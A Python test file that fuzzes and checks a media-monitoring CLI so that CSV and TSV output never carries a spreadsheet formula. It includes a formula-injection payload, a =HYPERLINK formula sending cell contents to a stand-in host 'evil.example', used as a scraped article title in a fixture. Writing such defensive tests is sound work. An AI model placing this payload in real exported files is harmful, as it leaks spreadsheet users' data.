"""CSV/TSV the CLI writes never carry a spreadsheet formula; JSON keeps the text as is."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.report_archive import CLUSTERS, config_toml, make_archive

from config.models import ClusterConfig
from mediawatch.cli.output import print_rows
from reports.render.delimited import FORMULA_STARTS
from storage.engine import make_engine

EXAMPLES = int(os.environ.get("MEDIAWATCH_FUZZ_EXAMPLES", "100"))
EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"x")'
TRIGGERS = "".join(sorted(FORMULA_STARTS)) + "\t\r\n '"
DAY = datetime(2026, 3, 4, 9, 0)


def is_formula(cell: str) -> bool:
    return bool(cell) and (cell[0] in "\t\r\n" or cell.lstrip()[:1] in FORMULA_STARTS)


def recovered(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def emit(rows: list[dict[str, object]], fmt: str) -> str:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        print_rows(rows, ["title", "count"], fmt)  # type: ignore[arg-type]
    return out.getvalue()


hostile_text = st.one_of(
    st.text(max_size=40),
    st.tuples(st.text(TRIGGERS, min_size=1, max_size=4), st.text(max_size=20)).map("".join),
)


@settings(max_examples=EXAMPLES, deadline=None)
@given(title=hostile_text, count=st.integers(-5, 5))
def test_csv_cells_are_never_formulas_and_give_the_text_back(title: str, count: int) -> None:
    rows = [{"title": title, "count": count}]
    header, cells = list(csv.reader(io.StringIO(emit(rows, "csv"), newline="")))
    assert header == ["title", "count"]
    assert not is_formula(cells[0])
    assert recovered(cells[0]) == title
    assert cells[1] == str(count)  # numbers stay numbers, even negative ones
    assert json.loads(emit(rows, "json")) == rows


@settings(max_examples=EXAMPLES, deadline=None)
@given(title=hostile_text)
def test_tsv_cells_are_never_formulas(title: str) -> None:
    lines = emit([{"title": title, "count": 1}], "tsv").split("\n")
    assert lines[-1] == "" and len(lines) == 3  # header, one record, final newline
    cell = lines[1].split("\t")[0]
    assert not is_formula(cell)


@pytest.fixture
def archive_config(tmp_path: Path, sqlite_url: str, cli) -> Path:  # type: ignore[no-untyped-def]
    config = tmp_path / "config.toml"
    clusters = (*CLUSTERS, ClusterConfig(name="-2+3", terms=("PMF",)))
    config.write_text(config_toml(sqlite_url, clusters), encoding="utf-8")
    assert cli("--config", str(config), "init").code == 0
    archive = make_archive(make_engine(sqlite_url))
    archive.add(EVIL, "The PMF moved north.", DAY, publisher="@evil.example")
    archive.add("PMF again", "The PMF moved south.", DAY, publisher="b.example")
    return config


def test_search_csv_neutralises_a_scraped_formula(archive_config: Path, cli) -> None:  # type: ignore[no-untyped-def]
    result = cli("--config", str(archive_config), "search", "PMF", "--format", "csv")
    assert result.code == 0, result
    rows = list(csv.DictReader(io.StringIO(result.out)))
    evil = next(row for row in rows if "HYPERLINK" in row["title"])
    assert evil["title"] == "'" + EVIL and evil["publisher"] == "'@evil.example"
    assert all(not is_formula(value) for row in rows for value in row.values())
    as_json = cli("--config", str(archive_config), "search", "PMF", "--format", "json")
    assert EVIL in [hit["title"] for hit in json.loads(as_json.out)]


def test_report_csv_neutralises_cluster_names(archive_config: Path, cli) -> None:  # type: ignore[no-untyped-def]
    period = ("--since", "2026-03-04", "--until", "2026-03-05")
    result = cli("--config", str(archive_config), "report", *period, "--format", "csv")
    assert result.code == 0, result
    names = [row["cluster"] for row in csv.DictReader(io.StringIO(result.out))]
    assert "'-2+3" in names and "-2+3" not in names
    as_json = cli("--config", str(archive_config), "report", *period, "--format", "json")
    assert "-2+3" in [row["cluster"] for row in json.loads(as_json.out)]
